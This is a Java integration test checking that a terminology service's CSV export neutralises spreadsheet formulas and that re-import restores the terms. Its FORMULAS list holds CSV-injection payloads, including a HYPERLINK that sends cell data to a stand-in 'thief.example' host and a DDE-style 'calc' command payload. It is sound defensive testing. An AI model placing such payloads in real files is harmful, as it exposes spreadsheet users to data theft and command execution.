package dev.parlance.attack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.parlance.TestService;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;

/** Terms that are formulas, in a CSV export that a person opens with a spreadsheet. */
class CsvFormulasIT {
    private static final TestService SERVICE = TestService.start();
    private static final TestService.Client ADMIN = SERVICE.admin();
    private static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://thief.example/\"&A1)", "@SUM(1)|' /C calc'!A0", "+1+1", "-1+1", "'=1+1", "'quoted'");

    @AfterAll
    static void close() {
        SERVICE.close();
    }

    private static String termBase() {
        var created = ADMIN.post("/termBases", Map.of("name", "Terms", "langs", List.of("en")));
        assertThat(created.status()).as(created.text()).isEqualTo(201);
        return "/termBases/" + created.uid();
    }

    private static String export(String termBase) {
        var exported = ADMIN.get(termBase + "/export?format=CSV");
        assertThat(exported.status()).isEqualTo(200);
        return exported.text();
    }

    @Test
    void noCellIsAFormulaAndAnImportRestoresTheTerms() {
        var termBase = termBase();
        for (var formula : FORMULAS) {
            var terms = List.of(Map.of("lang", "en", "text", formula));
            var concept = ADMIN.post(termBase + "/concepts", Map.of("terms", terms));
            assertThat(concept.status()).as(concept.text()).isEqualTo(201);
        }
        var csv = export(termBase);
        assertThat(csv.split("[,\r\n]", -1))
                .noneMatch(cell -> cell.replaceAll("^\"", "").matches("[=+@-].*"));
        var copy = termBase();
        var imported = ADMIN.upload(copy + "/upload", "terms.csv", csv.getBytes(StandardCharsets.UTF_8));
        assertThat(imported.status()).as(imported.text()).isEqualTo(200);
        assertThat(texts(copy)).isEqualTo(texts(termBase));
    }

    private static List<String> texts(String termBase) {
        var json = ADMIN.get(termBase + "/terms").json();
        var texts = json.findValuesAsText("text").stream().sorted().toList();
        assertThat(texts).containsExactlyInAnyOrderElementsOf(FORMULAS);
        return texts;
    }
}
